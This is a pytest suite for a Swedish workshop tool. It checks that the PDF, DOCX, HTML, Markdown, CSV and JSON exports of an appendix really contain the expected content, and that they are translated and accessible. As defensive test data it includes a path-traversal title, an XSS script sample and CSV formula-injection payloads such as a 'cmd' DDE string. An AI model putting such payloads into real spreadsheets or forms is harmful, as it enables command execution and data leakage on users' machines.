"""Every export format, parsed back: the content must really be there."""

from __future__ import annotations

import csv
import functools
import io
import json
import re
import zipfile
from dataclasses import replace
from html.parser import HTMLParser

import docx
import pypdf
import pytest

from tests.registry import REGISTRY
from tests.render.conftest import (
    EXPECTED_SUMMARIES,
    LONG_NOTE,
    SCRIPT,
    STATEMENTS,
    SWEDISH,
    TOPIC_TITLES,
    build_appendix,
)
from workshop.barometer.appendix_view import frames_chart_name, movement_chart_name, strip_chart_name
from workshop.barometer.domain_summary import movement
from workshop.barometer.replay.domain import frames
from workshop.domain.decisions import Decision, DecisionsRecord
from workshop.i18n import in_words, translator
from workshop.openspace.appendix_view import HEADCOUNT_CHART_NAME
from workshop.render.appendix_view import MARKDOWN_FILE, build_view, download_name, merged, title_for
from workshop.render.export_csv import render_csv
from workshop.render.export_docx import render_docx
from workshop.render.export_html import render_html
from workshop.render.export_json import render_json
from workshop.render.export_markdown import render_markdown
from workshop.render.export_pdf import render_pdf

RENDERERS = {
    "pdf": render_pdf,
    "docx": render_docx,
    "html": render_html,
    "md": render_markdown,
    "csv": render_csv,
    "json": render_json,
}
LANGS = ["sv", "en"]
APPENDIX = build_appendix()
STATEMENT_RECORDS = APPENDIX.sections["barometer"].statements
OPEN_SPACE = APPENDIX.sections["openspace"]
CSV_FILES = (
    "positions.csv",
    "comments.csv",
    "floor.csv",
    "phone_comments.csv",
    "rounds.csv",  # "Fråga igen": earlier rounds (issue 22)
    "statements.csv",
    "topics.csv",
    "notes.csv",
    "corners.csv",
    "corner_comments.csv",
    "corner_questions.csv",
    "decisions.csv",  # the core's "Beslut och nästa steg": always there
)  # Fyra hörn: always there
EN_TITLE = (
    "Appendix – Opinion barometer and Open Space – Länsträff idéburna organisationer Värmland, 2015-11-20"
)
# Statements whose movers move by at least the threshold get a movement chart.
MOVED_STATEMENTS = [s for s in STATEMENT_RECORDS if movement(s.history).moved]
# Where anyone's answer changed, the replay's three frames stand in for the strip.
REPLAYED_STATEMENTS = [s for s in STATEMENT_RECORDS if frames(s.history).first != frames(s.history).final]
CHART_COUNT = len(STATEMENT_RECORDS) + len(MOVED_STATEMENTS) + 1  # + Open Space headcount
SHORT_NOTES = [n.text for t in OPEN_SPACE.topics for n in t.notes if n.text != LONG_NOTE]


@functools.cache
def rendered(fmt: str, lang: str) -> bytes:
    return RENDERERS[fmt](APPENDIX, lang)


def flat(text: str) -> str:
    """Whitespace-insensitive: wrapped lines in a PDF become single spaces."""
    return " ".join(text.split())


def summary_texts(lang: str) -> list[str]:
    return [sv if lang == "sv" else en for sv, en in EXPECTED_SUMMARIES]


def other_language_only(lang: str) -> list[str]:
    mine = set(summary_texts(lang))
    return [s for s in summary_texts("en" if lang == "sv" else "sv") if s not in mine]


SV_TITLE = "Bilaga – Åsiktsbarometer och Open Space – Länsträff idéburna organisationer Värmland, 2015-11-20"


def appendix_title(lang: str, appendix=APPENDIX) -> str:
    return build_view(appendix, lang).title


def test_swedish_title_and_labels_with_catalog():
    # The catalog is compiled by `make install`; without it this must fail, not skip.
    assert translator("sv")("Agree") == "Håller med"
    assert appendix_title("sv") == SV_TITLE
    assert SV_TITLE in pdf_text("sv")
    assert "Kommentar: använda resurser gemensamt, bli starka" in pdf_text("sv")
    html = rendered("html", "sv").decode("utf-8")
    assert ">Fika<" in html and "Sammankallande" in html and "Förslag och nästa steg" in html
    document = docx.Document(io.BytesIO(rendered("docx", "sv")))
    assert document.paragraphs[0].text == SV_TITLE


def test_titles():
    assert appendix_title("en") == EN_TITLE
    assert appendix_title("sv").endswith("– Länsträff idéburna organisationer Värmland, 2015-11-20")
    name = "lanstraff-ideburna-organisationer-varmland-2015-11-20"
    assert download_name(APPENDIX, "sv", "pdf") == f"bilaga-{name}.pdf"
    assert download_name(APPENDIX, "en", "docx") == f"appendix-{name}.docx"


def test_the_title_names_the_methods_the_appendix_shows():
    only_barometer = replace(APPENDIX, sections={"barometer": APPENDIX.sections["barometer"]})
    assert (
        appendix_title("sv", only_barometer)
        == "Bilaga – Åsiktsbarometer – Länsträff idéburna organisationer Värmland, 2015-11-20"
    )
    assert appendix_title("en", only_barometer).startswith("Appendix – Opinion barometer – ")
    # The barometer's section is always shown ("No statements were shown."),
    # so it is always named; a title names exactly the sections shown.
    nothing = replace(APPENDIX, sections={})
    assert appendix_title("en", nothing).startswith("Appendix – Opinion barometer – ")
    assert title_for(APPENDIX, "sv", []) == "Bilaga – Länsträff idéburna organisationer Värmland, 2015-11-20"
    assert in_words(["A", "B", "C"], translator("sv")) == "A, B och C"
    assert in_words(["A", "B", "C"], translator("en")) == "A, B and C"


@pytest.mark.parametrize(
    "title, code, expected",
    [
        ("Inspirationsdag Värmland", "123456", "bilaga-inspirationsdag-varmland-2026-11-20.pdf"),
        ("ÅRSMÖTE – Föreningar i Väst!", "123456", "bilaga-arsmote-foreningar-i-vast-2026-11-20.pdf"),
        ("  ../../etc/passwd  ", "123456", "bilaga-etc-passwd-2026-11-20.pdf"),
        ("🎉 ✨", "654321", "bilaga-654321-2026-11-20.pdf"),  # nothing left of the title: the code
        (
            "Gemensam överenskommelse för Värmlands idéburna organisationer och regionen",
            "1",
            "bilaga-gemensam-overenskommelse-for-varmlands-ideburna-2026-11-20.pdf",
        ),  # cut between words
    ],
)
def test_download_name_is_a_slug_of_the_title(title, code, expected):
    appendix = replace(APPENDIX, title=title, code=code, date="2026-11-20")
    assert download_name(appendix, "sv", "pdf") == expected
    assert len(download_name(appendix, "sv", "pdf")) <= len("bilaga--2026-11-20.pdf") + 60


# --- PDF ----------------------------------------------------------------------
@functools.cache
def pdf_text(lang: str) -> str:
    reader = pypdf.PdfReader(io.BytesIO(rendered("pdf", lang)))
    return flat("\n".join(page.extract_text() for page in reader.pages))


@pytest.mark.parametrize("lang", LANGS)
def test_pdf_content(lang):
    text = pdf_text(lang)
    for statement in STATEMENTS:
        assert flat(statement[0]) in text
    for summary in summary_texts(lang):
        assert summary in text
    for wrong in other_language_only(lang):
        assert wrong not in text
    assert "använda resurser gemensamt, bli starka" in text
    assert "Gemensamma resurser gör oss starka" in text and "Vem betalar?" in text
    if lang == "sv":
        assert "Ordet: 1 från håller inte med-sidan, 1 från mitten, 1 från håller med-sidan" in text
    for title in TOPIC_TITLES:
        assert title in text
    for note in SHORT_NOTES:
        assert flat(note) in text
    assert "Arbetsgruppen" in text and "mars 2016" in text  # proposal: who / when
    assert SWEDISH in text and SCRIPT in text  # plain text in a PDF: shown as written
    assert flat(LONG_NOTE)[:2000] in text and flat(LONG_NOTE)[-200:] in text
    if lang == "en":
        assert EN_TITLE in text
        assert "Coffee break" in text and "Comment: använda resurser" in text


@pytest.mark.parametrize("lang", LANGS)
def test_pdf_document_properties(lang):
    reader = pypdf.PdfReader(io.BytesIO(rendered("pdf", lang)))
    assert reader.trailer["/Root"]["/Lang"] == lang
    assert reader.xmp_metadata.dc_title["x-default"] == appendix_title(lang)
    assert b"pdfaid:part" in rendered("pdf", lang)  # PDF/A identification in the XMP
    images = sum(len(page.images) for page in reader.pages)
    assert images == CHART_COUNT
    assert len(reader.pages) >= 10  # the 20,000-character note runs over pages
    footer = reader.pages[1].extract_text()
    assert re.search(rf"\b2 \S+ {len(reader.pages)}\b", footer), "page numbers in the footer"
    fonts = {f for page in reader.pages for f in (page["/Resources"].get("/Font") or {}).values()}
    assert all(
        "/FontFile2" in f.get_object()["/DescendantFonts"][0].get_object()["/FontDescriptor"] for f in fonts
    ), "every font is embedded"


@functools.cache
def pdf_pages(lang: str) -> list[str]:
    reader = pypdf.PdfReader(io.BytesIO(rendered("pdf", lang)))
    return [flat(page.extract_text()) for page in reader.pages]


def test_pdf_content_starts_on_page_one():
    first = pdf_pages("sv")[0]
    assert SV_TITLE in first and "Datum: 2015-11-20" in first
    assert "Åsiktsbarometer" in first and "1. Min organisation har något att tillföra" in first


@pytest.mark.parametrize("lang", LANGS)
def test_pdf_keeps_each_statement_block_on_one_page(lang):
    """Heading, counts, dot plot, summary, movement and its chart: one page."""
    label = "Förflyttning:" if lang == "sv" else "Movement:"
    pages = pdf_pages(lang)
    reader = pypdf.PdfReader(io.BytesIO(rendered("pdf", lang)))
    expected_images = [0] * len(pages)
    for number, statement in enumerate(STATEMENTS, start=1):
        heading = flat(f"{number}. {statement[0]}")[:50]
        (at,) = [i for i, p in enumerate(pages) if heading in p]
        assert label in pages[at][pages[at].index(heading) :], (number, "movement on another page")
        expected_images[at] += 2 if STATEMENT_RECORDS[number - 1] in MOVED_STATEMENTS else 1
    headcount = translator(lang)("Headcount and interest")
    expected_images[next(i for i, p in enumerate(pages) if headcount in p)] += 1
    assert [len(page.images) for page in reader.pages] == expected_images


# --- DOCX ---------------------------------------------------------------------
@pytest.mark.parametrize("lang", LANGS)
def test_docx_is_a4_and_starts_on_page_one(lang):
    document = docx.Document(io.BytesIO(rendered("docx", lang)))
    section = document.sections[0]
    assert (round(section.page_width.cm, 1), round(section.page_height.cm, 1)) == (21.0, 29.7)
    margins = (section.left_margin, section.right_margin, section.top_margin, section.bottom_margin)
    assert [round(m.cm, 2) for m in margins] == [2.0] * 4
    body = document.element.body
    breaks = body.xpath(".//w:br[@w:type='page']")
    first_h1 = next(p for p in document.paragraphs if p.style.name == "Heading 1")
    # The first section follows the facts; only the second begins a new page.
    assert len(breaks) == 1
    assert list(body.iter()).index(first_h1._p) < list(body.iter()).index(breaks[0])


@pytest.mark.parametrize("lang", LANGS)
def test_docx_structure_and_content(lang):
    document = docx.Document(io.BytesIO(rendered("docx", lang)))
    by_style: dict[str, list[str]] = {}
    for p in document.paragraphs:
        by_style.setdefault(p.style.name, []).append(p.text)
    assert by_style["Title"] == [appendix_title(lang)]
    assert len(by_style["Heading 1"]) == 2  # barometer, Open Space
    headings2 = by_style["Heading 2"]
    for statement in STATEMENTS:
        assert any(statement[0] in h for h in headings2)
    for title in TOPIC_TITLES:
        assert title in headings2
    assert len(by_style["Heading 3"]) == 3 * 4  # every note kind, per topic
    body = "\n".join(p.text for p in document.paragraphs)
    for summary in summary_texts(lang):
        assert summary in body
    for wrong in other_language_only(lang):
        assert wrong not in body
    for note in SHORT_NOTES + [LONG_NOTE]:
        assert note in body
    assert SCRIPT in body and SWEDISH in body
    assert "använda resurser gemensamt, bli starka" in body
    props = document.core_properties
    assert props.title == appendix_title(lang)
    assert props.language == {"sv": "sv-SE", "en": "en-GB"}[lang]
    default_lang = document.styles.element.xpath("//w:docDefaults//w:lang/@w:val")
    assert default_lang == [props.language]


@pytest.mark.parametrize("lang", LANGS)
def test_docx_pictures_and_agenda_table(lang):
    document = docx.Document(io.BytesIO(rendered("docx", lang)))
    alts = [shape._inline.docPr.get("descr") for shape in document.inline_shapes]
    assert len(alts) == CHART_COUNT
    assert all(alt and len(alt) > 15 for alt in alts)
    table = document.tables[0]
    rows = [[c.text for c in row.cells] for row in table.rows]
    assert rows[0][1:] == ["Stora salen", "Rum Klarälven", "Rum Vänern"]
    assert rows[1][1:] == ["Projektledning", "Folkhälsa, psykisk hälsa", ""]
    assert rows[3][1] == "Kommunikation"
    assert len(set(rows[2][1:])) == 1  # the break is one merged cell across all spaces
    assert table.rows[0]._tr.xpath("./w:trPr/w:tblHeader")


# --- HTML ---------------------------------------------------------------------
class _Outline(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags: list[tuple[str, dict]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text.append(data)


@pytest.mark.parametrize("lang", LANGS)
def test_html_is_accessible_and_self_contained(lang):
    html = rendered("html", lang).decode("utf-8")
    assert f'<html lang="{lang}">' in html
    assert "<script" not in html.lower(), "user text must be escaped, and we ship no scripts"
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert not re.search(r"""(src|href)\s*=\s*["']?\s*(https?:)?//""", html, re.I)
    assert not re.search(r"url\((?!#)|@import|<link|<iframe|<img|<object|<embed", html, re.I)
    assert "@media print" in html
    page = _Outline()
    page.feed(html)
    svgs = [attrs for tag, attrs in page.tags if tag == "svg"]
    assert len(svgs) == CHART_COUNT
    assert all(a.get("role") == "img" and a.get("aria-labelledby") for a in svgs)
    title_ids = {a.get("id") for tag, a in page.tags if tag == "title"}
    assert {a["aria-labelledby"] for a in svgs} <= title_ids
    assert [t for t, _ in page.tags].count("h1") == 1
    assert any(t == "th" and a.get("scope") == "col" for t, a in page.tags)
    assert any(t == "th" and a.get("scope") == "row" for t, a in page.tags)
    text = flat(" ".join(page.text))
    for statement in STATEMENTS:
        assert flat(statement[0]) in text
    for summary in summary_texts(lang):
        assert summary in text
    for note in SHORT_NOTES + [LONG_NOTE]:
        assert flat(note) in text
    assert flat(appendix_title(lang)) in text


# --- Markdown -------------------------------------------------------------------
@pytest.mark.parametrize("lang", LANGS)
def test_markdown_zip(lang):
    with zipfile.ZipFile(io.BytesIO(rendered("md", lang))) as zf:
        names = set(zf.namelist())
        md = zf.read(MARKDOWN_FILE).decode("utf-8")
        for name in names - {MARKDOWN_FILE}:
            assert zf.read(name).startswith(b"\x89PNG")
    linked = set(re.findall(r"!\[[^\]]*\]\(([^)]+)\)", md))
    assert linked == names - {MARKDOWN_FILE}
    assert HEADCOUNT_CHART_NAME in linked and strip_chart_name(7) in linked
    assert {movement_chart_name(s.number) for s in MOVED_STATEMENTS} <= linked
    assert {frames_chart_name(s.number) for s in REPLAYED_STATEMENTS} <= linked
    assert not {strip_chart_name(s.number) for s in REPLAYED_STATEMENTS} & linked
    assert len(names) == CHART_COUNT + 1
    assert md.startswith("# ")
    assert "<script>" not in md and r"\<script\>alert(1)\</script\>" in md
    assert "Min organisation har något att tillföra till Värmlands utveckling" in md
    for summary in summary_texts(lang):
        assert summary.replace(".", "") in md.replace("\\", "").replace(".", "")
    for title in TOPIC_TITLES:
        assert f"### {title}" in md


# --- CSV --------------------------------------------------------------------------
def _csv_rows(data: bytes, name: str) -> list[dict]:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return list(csv.DictReader(io.StringIO(zf.read(name).decode("utf-8-sig"))))


@pytest.mark.parametrize("lang", LANGS)
def test_csv_zip(lang):
    data = rendered("csv", lang)
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        assert sorted(zf.namelist()) == sorted(CSV_FILES)
    positions = _csv_rows(data, "positions.csv")
    assert len(positions) == sum(len(s.history) for s in STATEMENT_RECORDS)
    assert all(re.fullmatch(r"P\d+", r["participant"]) for r in positions)
    passes = sum(1 for s in STATEMENT_RECORDS for h in s.history if h.value is None)
    assert sum(1 for r in positions if r["value"] == "pass") == passes
    ends = [str(int(h.gesture_end)) for s in STATEMENT_RECORDS for h in s.history]
    assert [r["gesture_end"] for r in positions] == ends and {"0", "1"} <= set(ends)
    assert list(positions[0])[-1] == "gesture_end"  # added at the end: old columns keep their place
    assert {r["statement_text"] for r in positions} == {s.text for s in STATEMENT_RECORDS}
    comments = _csv_rows(data, "comments.csv")
    assert [c["comment"] for c in comments] == [c.text for s in STATEMENT_RECORDS for c in s.comments]
    floor = _csv_rows(data, "floor.csv")
    assert [(f["statement"], f["turn"], f["region"]) for f in floor] == [
        ("3", "1", "disagree"),
        ("3", "2", "agree"),
        ("3", "3", "middle"),
    ]
    phone = _csv_rows(data, "phone_comments.csv")
    assert [(c["region"], c["comment"]) for c in phone] == [
        (c.region, c.text) for s in STATEMENT_RECORDS for c in s.phone_comments
    ]
    notes = _csv_rows(data, "notes.csv")
    assert len(notes) == sum(len(t.notes) for t in OPEN_SPACE.topics)
    assert LONG_NOTE in [n["text"] for n in notes]
    assert {n["kind"] for n in notes} == {"text", "key_point", "proposal", "question"}
    topics = _csv_rows(data, "topics.csv")
    assert [t["title"] for t in topics] == TOPIC_TITLES
    assert topics[1]["convener"] == ""  # anonymous
    statements = _csv_rows(data, "statements.csv")
    assert [s["summary"] for s in statements] == summary_texts(lang)


def test_csv_neutralises_formulas():
    from workshop.render.export_csv import _cell

    assert _cell("=HYPERLINK(1)") == "'=HYPERLINK(1)"
    assert _cell("Vanlig text") == "Vanlig text"


def _every_text_a_formula():
    """Every user text in every field a formula, so a column that skips the
    guard shows up whichever table it is in."""
    from workshop.barometer.record import RoundRecord

    f = '=HYPERLINK("http://x"&A1,"klick")'
    return replace(
        APPENDIX,
        sections={
            "barometer": replace(
                APPENDIX.sections["barometer"],
                statements=[
                    replace(
                        s,
                        text="+cmd|' /C calc'!A0",
                        comments=[replace(c, text="@SUM(1)") for c in s.comments],
                        phone_comments=[replace(c, text="=1+2") for c in s.phone_comments],
                        rounds=[RoundRecord(1, dict(s.final))],  # rounds.csv has rows too
                        minutes={"text": "-1+1", "version": 1},
                    )
                    for s in STATEMENT_RECORDS
                ],
            ),
            "openspace": replace(
                OPEN_SPACE,
                theme=f,
                spaces=[replace(sp, name=f) for sp in OPEN_SPACE.spaces],
                slots=[replace(sl, label="@SUM(1)", starts_at="=1+1") for sl in OPEN_SPACE.slots],
                topics=[
                    replace(
                        tp,
                        title=f,
                        description="-2+3",
                        convener="\t=1",
                        notes=[replace(n, text=f, who="+1", when="=1") for n in tp.notes],
                    )
                    for tp in OPEN_SPACE.topics
                ],
            ),
            "fourcorners": _four_corners_all_formulas(f),
            "decisions": DecisionsRecord([Decision(f, "+1", "=1")]),
        },
    )


def _four_corners_all_formulas(f: str):
    from workshop.fourcorners.record import ChoiceChange, Comment, FourCornersRecord, QuestionRecord

    return FourCornersRecord(
        questions=[
            QuestionRecord(
                id=1,
                number=1,
                text=f,
                labels=(f, "+1", "-A", "@B"),
                final={1: 0, 2: None},
                history=[ChoiceChange(1, 3, "=1"), ChoiceChange(1, 0, "+t"), ChoiceChange(2, None, "@t")],
                comments=[Comment("-1+1", "=1")],
            )
        ]
    )


def test_csv_guards_every_text_cell_of_every_table():
    data = render_csv(_every_text_a_formula(), "sv")
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        tables = {
            name: list(csv.reader(io.StringIO(zf.read(name).decode("utf-8-sig")))) for name in zf.namelist()
        }
    assert sorted(tables) == sorted(CSV_FILES)
    dangerous = re.compile(r"[=+\-@\t\r]")
    for name, rows in tables.items():
        assert len(rows) > 1, name
        for row in rows:
            for cell in row:
                if dangerous.match(cell):  # only a number may start like a formula
                    assert re.fullmatch(r"-\d+(\.\d+)?", cell), (name, cell)
    topics = tables["topics.csv"]
    header = topics[0]
    assert topics[1][header.index("space")] == '\'=HYPERLINK("http://x"&A1,"klick")'
    assert topics[1][header.index("slot")] == "'@SUM(1)"
    statements = tables["statements.csv"]
    shift = statements[0].index("mean_shift")
    assert any(float(row[shift]) < 0 for row in statements[1:]), "a negative mean shift stays a number"


def test_two_sections_writing_one_name_is_refused():
    # Sections add CSV files and JSON keys side by side; one must never hide another.
    with pytest.raises(ValueError, match="topics.csv"):
        merged([{"topics.csv": 1}, {"topics.csv": 2}])


# --- JSON -------------------------------------------------------------------------
@pytest.mark.parametrize("lang", LANGS)
def test_json(lang):
    raw = rendered("json", lang)
    assert SWEDISH.encode("utf-8") in raw  # ensure_ascii=False: readable UTF-8
    doc = json.loads(raw)
    assert doc["lang"] == lang and doc["title"] == appendix_title(lang)
    assert len(doc["statements"]) == len(STATEMENTS)
    for statement, (sv, en) in zip(doc["statements"], EXPECTED_SUMMARIES):
        assert statement["summary"]["sv"] == sv and statement["summary"]["en"] == en
        assert statement["summary"]["shape"]
        assert statement["summary_text"] == (sv if lang == "sv" else en)
        assert set(statement["movement"]) >= {
            "participants",
            "moved",
            "towards_agree",
            "towards_disagree",
            "mean_shift",
            "pairs",
        }
    first = doc["statements"][0]
    assert first["values"] == STATEMENT_RECORDS[0].values
    assert len(first["history"]) == len(STATEMENT_RECORDS[0].history)
    assert [h["gesture_end"] for h in doc["statements"][1]["history"]] == [
        h.gesture_end for h in STATEMENT_RECORDS[1].history
    ]
    assert doc["statements"][5]["passes"] == 3
    assert doc["statements"][2]["comments"][0]["text"] == "använda resurser gemensamt, bli starka"
    topics = doc["openspace"]["topics"]
    assert [t["title"] for t in topics] == TOPIC_TITLES
    assert LONG_NOTE in [n["text"] for n in topics[1]["notes"]]
    assert len(doc["openspace"]["slots"]) == 3 and doc["openspace"]["slots"][1]["kind"] == "break"


# --- Open Space votes: only when dot voting was on ----------------------------------
@pytest.mark.parametrize("fmt", ["pdf", "docx", "html", "md"])
def test_votes_show_only_when_dot_voting_was_on(fmt):
    no_dots = replace(
        APPENDIX,
        sections={
            **APPENDIX.sections,
            "openspace": replace(
                OPEN_SPACE, dots=0, topics=[replace(tp, votes=0) for tp in OPEN_SPACE.topics]
            ),
        },
    )
    dots_on = replace(
        APPENDIX,
        sections={
            **APPENDIX.sections,
            "openspace": replace(
                OPEN_SPACE, dots=3, topics=[replace(tp, votes=0) for tp in OPEN_SPACE.topics]
            ),
        },
    )
    label = "Votes:"

    def text(appendix) -> str:
        data = RENDERERS[fmt](appendix, "en")
        if fmt == "pdf":
            return flat(" ".join(p.extract_text() for p in pypdf.PdfReader(io.BytesIO(data)).pages))
        if fmt == "docx":
            return " ".join(p.text for p in docx.Document(io.BytesIO(data)).paragraphs)
        if fmt == "md":
            with zipfile.ZipFile(io.BytesIO(data)) as zf:
                return zf.read(MARKDOWN_FILE).decode("utf-8").replace("**", "")
        return re.sub(r"<[^>]+>", "", data.decode("utf-8").replace("</dt>", ":"))

    assert label not in text(no_dots)
    assert text(dots_on).count(label) == len(OPEN_SPACE.topics)  # on, even if nobody voted
    assert text(APPENDIX).count(label) == len(OPEN_SPACE.topics)  # votes were cast


# --- Language plumbing: every label goes through gettext ----------------------------
def test_labels_are_translated(pseudo_swedish):
    html = render_html(APPENDIX, "sv").decode("utf-8")
    for label in [
        "Opinion barometer",
        "Summary",
        "Movement",
        "Comment",
        "Convener",
        "Coffee break",
        "Key points",
        "Proposals and next steps",
        "Open questions",
        "Peak headcount",
        "The agenda wall as held",
        "Headcount and interest",
        "Time",
        "anonymous",
    ]:
        assert f"⟪{label}⟫" in html, label
    assert "⟪Appendix – ⟪⟪Opinion barometer⟫ and ⟪Open Space⟫⟫ – Länsträff" in html  # title, methods, "and"
    assert "⟪Who: Arbetsgruppen⟫" in html and "⟪When: mars 2016⟫" in html
    assert '<title id="chart-1">⟪Dot plot:' in html  # chart alt texts too
    document = docx.Document(io.BytesIO(render_docx(APPENDIX, "sv")))
    assert document.paragraphs[0].text.startswith("⟪Appendix")
    assert any(p.text.startswith("⟪Comment⟫: ") for p in document.paragraphs)


# --- Sparse workshops: nothing shown yet, or only half the day ---------------------
def _sparse_appendices():
    from workshop.barometer.record import BarometerRecord, PositionChange, StatementRecord
    from workshop.domain.appendix import Appendix
    from workshop.openspace.record import OpenSpaceRecord, Slot, Topic

    empty = Appendix(
        section_types=REGISTRY.appendix_sections(),
        title="Tom",
        code="T0",
        language="sv",
        created_at="2026-01-01T00:00:00Z",
        date="2026-01-01",
        participants=0,
    )
    passes_only = StatementRecord(
        1,
        1,
        "Bara pass",
        {1: None, 2: None},
        [PositionChange(1, None, "t"), PositionChange(2, None, "t")],
        [],
    )
    half = Appendix(
        section_types=REGISTRY.appendix_sections(),
        title="Halv",
        code="H1",
        language="en",
        created_at="2026-01-01T00:00:00Z",
        date="2026-01-01",
        participants=2,
        sections={
            "barometer": BarometerRecord(statements=[passes_only]),
            "openspace": OpenSpaceRecord(
                theme="Tema",
                spaces=[],
                slots=[Slot(1, "Fika", "10:00", 20, "break")],
                topics=[Topic(1, "Utan plats och anteckningar")],
            ),
        },
    )
    return {"empty": empty, "half": half}


@pytest.mark.parametrize("lang", LANGS)
@pytest.mark.parametrize("fmt", sorted(RENDERERS))
@pytest.mark.parametrize("case", ["empty", "half"])
def test_sparse_workshops_render(case, fmt, lang):
    data = RENDERERS[fmt](_sparse_appendices()[case], lang)
    assert len(data) > 100
    if fmt == "json":
        doc = json.loads(data)
        if case == "half":
            assert doc["statements"][0]["summary"]["shape"] == "too_few"
            assert doc["statements"][0]["passes"] == 2
    if fmt == "html" and case == "half":
        html = data.decode("utf-8")
        assert "Utan plats och anteckningar" in html and html.count("<svg") == 2  # strip + headcount
